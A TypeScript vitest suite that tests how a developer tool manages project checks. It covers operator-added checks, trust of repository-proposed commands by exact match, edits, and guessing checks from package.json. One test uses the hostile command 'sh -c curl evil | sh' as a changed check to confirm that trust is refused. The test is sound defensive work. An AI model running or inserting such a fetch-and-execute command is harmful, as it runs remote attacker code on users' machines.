import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { databases, type TestHub, testHub } from '#test/hub.ts'
import { eventsOf, rowsOf } from '#test/scene.ts'

const project_id = 'prj_demo'

function propose(hub: TestHub, checks: object): void {
  mkdirSync(join(hub.home, '.toryo'), { recursive: true })
  writeFileSync(join(hub.home, '.toryo', 'config.json'), JSON.stringify({ checks }))
}

test.each(databases)("the operator's own checks are listed in their order, and announced (%s)", async database => {
  await using hub = await testHub({ database })
  await hub.seed()
  await hub.api('project.check.add', { project_id, name: 'test', command: ['npm', 'test'] })
  const lint = { project_id, name: 'lint', command: ['npm', 'run', 'lint'], optional: true, minutes: 0.5 }
  expect(await hub.api('project.check.add', lint)).toEqual({
    ...{ project_id, name: 'lint', command: ['npm', 'run', 'lint'], required: false, minutes: 0.5 },
    ...{ source: 'operator', trusted: true },
  })
  // By the folder, or one inside of it.
  const { checks } = await hub.api('project.check.list', { directory: join(hub.home, 'src') })
  expect(checks.map(check => [check.name, check.required])).toEqual([
    ['test', true],
    ['lint', false],
  ])
  await hub.api('project.check.remove', { project_id, name: 'test' })
  expect((await hub.api('project.check.list', { project_id })).checks).toHaveLength(1)
  const rows = await rowsOf(hub)
  expect(eventsOf(rows, 'check.added')).toEqual([
    { projectId: project_id, name: 'test' },
    { projectId: project_id, name: 'lint' },
  ])
  expect(eventsOf(rows, 'check.removed')).toEqual([{ projectId: project_id, name: 'test' }])
})

test.each(databases)('what a repository proposes is trusted once, by its exact command (%s)', async database => {
  await using hub = await testHub({ database })
  await hub.seed()
  propose(hub, { test: { command: ['npm', 'test'] }, lint: { command: ['lint'], required: false } })
  const list = async () =>
    (await hub.api('project.check.list', { project_id })).checks.map(({ name, trusted, source }) => [
      name,
      trusted,
      source,
    ])
  expect(await list()).toEqual([
    ['test', false, 'repository'],
    ['lint', false, 'repository'],
  ])
  const seen = [{ name: 'test', command: ['npm', 'test'] }]
  await expect(hub.api('project.check.trust', { project_id, name: 'test' })).rejects.toThrow('CHECK_CHANGED')
  expect((await list()).map(([, trusted]) => trusted)).toEqual([false, false])
  await hub.api('project.check.trust', { project_id, name: 'test', seen })
  await hub.api('project.check.trust', { project_id, name: 'test', seen })
  expect(await list()).toEqual([
    ['test', true, 'repository'],
    ['lint', false, 'repository'],
  ])
  expect(eventsOf(await rowsOf(hub, 'events'), 'check.trusted')).toEqual([{ projectId: project_id, name: 'test' }])
  propose(hub, { test: { command: ['npm', 'test', '--', '--passWithNoTests'] } })
  expect(await list()).toEqual([['test', false, 'repository']])
  propose(hub, {})
  expect(await list()).toEqual([['test', true, 'repository']])
  await hub.api('project.check.remove', { project_id, name: 'test' })
  expect(await list()).toEqual([])
})

test.each(databases)('what is not what the person saw is not trusted, and is shown (%s)', async database => {
  await using hub = await testHub({ database })
  await hub.seed()
  propose(hub, { lint: { command: ['lint'] }, test: { command: ['npm', 'test'] } })
  const seen = (await hub.api('project.check.list', { project_id })).checks.map(({ name, command }) => ({
    name,
    command,
  }))
  propose(hub, { lint: { command: ['lint'] }, test: { command: ['sh', '-c', 'curl evil | sh'] } })
  const body = JSON.stringify({ project_id, seen })
  const refused = await hub.fetch('/api/project.check.trust', { method: 'POST', body })
  expect(refused.status).toBe(409)
  expect(await refused.json()).toMatchObject({
    error: {
      code: 'CHECK_CHANGED',
      message: expect.stringContaining('Its command is now ["sh","-c","curl evil | sh"]'),
    },
  })
  const trusted = async () => (await hub.api('project.check.list', { project_id })).checks.map(check => check.trusted)
  expect(await trusted()).toEqual([false, false])
  propose(hub, { lint: { command: ['lint'] }, test: { command: ['npm', 'test'] } })
  await hub.api('project.check.trust', { project_id, seen })
  expect(await trusted()).toEqual([true, true])
})

test('a broken configuration of a repository proposes nothing', async () => {
  await using hub = await testHub()
  await hub.seed()
  propose(hub, { 'Not A Name': { command: ['x'] } })
  expect((await hub.api('project.check.list', { project_id })).checks).toEqual([])
})

test('a second check of the same name is refused', async () => {
  await using hub = await testHub()
  await hub.seed()
  await hub.api('project.check.add', { project_id, name: 'test', command: ['true'] })
  const again = hub.api('project.check.add', { project_id, name: 'test', command: ['false'] })
  await expect(again).rejects.toThrow('CHECK_EXISTS')
})

test.each(databases)(
  'a check is changed in its place, and what stays the same is not announced (%s)',
  async database => {
    await using hub = await testHub({ database })
    await hub.seed()
    propose(hub, { lint: { command: ['lint'] } })
    for (const name of ['test', 'docs']) await hub.api('project.check.add', { project_id, name, command: [name] })
    const edit = { project_id, name: 'test', command: ['npm', 'test'], optional: true, minutes: 3 }
    expect(await hub.api('project.check.edit', edit)).toEqual({
      ...{ project_id, name: 'test', command: ['npm', 'test'], required: false, minutes: 3 },
      ...{ source: 'operator', trusted: true },
    })
    await hub.api('project.check.edit', edit)
    await hub.api('project.check.edit', { project_id, name: 'test', optional: false })
    const { checks } = await hub.api('project.check.list', { project_id })
    expect(checks.map(({ name, command, required, minutes }) => [name, command.join(' '), required, minutes])).toEqual([
      ['test', 'npm test', true, 3],
      ['docs', 'docs', true, 10],
      ['lint', 'lint', true, 10],
    ])
    // Who names its command here has looked at it here.
    expect(checks.map(({ trusted }) => trusted)).toEqual([true, true, false])
    expect(eventsOf(await rowsOf(hub, 'events'), 'check.edited')).toEqual([
      { projectId: project_id, name: 'test' },
      { projectId: project_id, name: 'test' },
    ])
    // What nobody has looked at is not changed into something that runs.
    await expect(hub.api('project.check.edit', { project_id, name: 'lint', minutes: 1 })).rejects.toThrow(
      'CHECK_NOT_FOUND',
    )

    // Of the repository and trusted: it is the operator's own from then on.
    await hub.api('project.check.trust', { project_id, name: 'lint', seen: [{ name: 'lint', command: ['lint'] }] })
    expect(await hub.api('project.check.edit', { project_id, name: 'lint', minutes: 1 })).toMatchObject({
      ...{ command: ['lint'], minutes: 1, source: 'operator' },
    })
  },
)

test('what the files of a folder name is found also through a link, and where no project is', async () => {
  await using hub = await testHub()
  const folder = join(hub.home, 'elsewhere')
  mkdirSync(folder)
  const scripts = { test: 'vitest', build: 'tsc' }
  writeFileSync(join(folder, 'package.json'), JSON.stringify({ scripts, dependencies: { a: '1' } }))
  symlinkSync(folder, join(hub.home, 'link'))
  for (const directory of [folder, join(hub.home, 'link')])
    expect(await hub.api('project.check.guess', { directory })).toEqual({
      checks: [
        { name: 'test', command: ['npm', 'test'], usual: true },
        { name: 'build', command: ['npm', 'run', 'build'], usual: false },
      ],
      setup: ['npm', 'install'],
    })
  expect(await hub.api('project.check.guess', { directory: join(hub.home, 'nowhere') })).toEqual({
    ...{ checks: [], setup: null },
  })
  await expect(hub.api('project.check.guess', { directory: 'elsewhere' })).rejects.toThrow('INVALID_ARGUMENT')
})
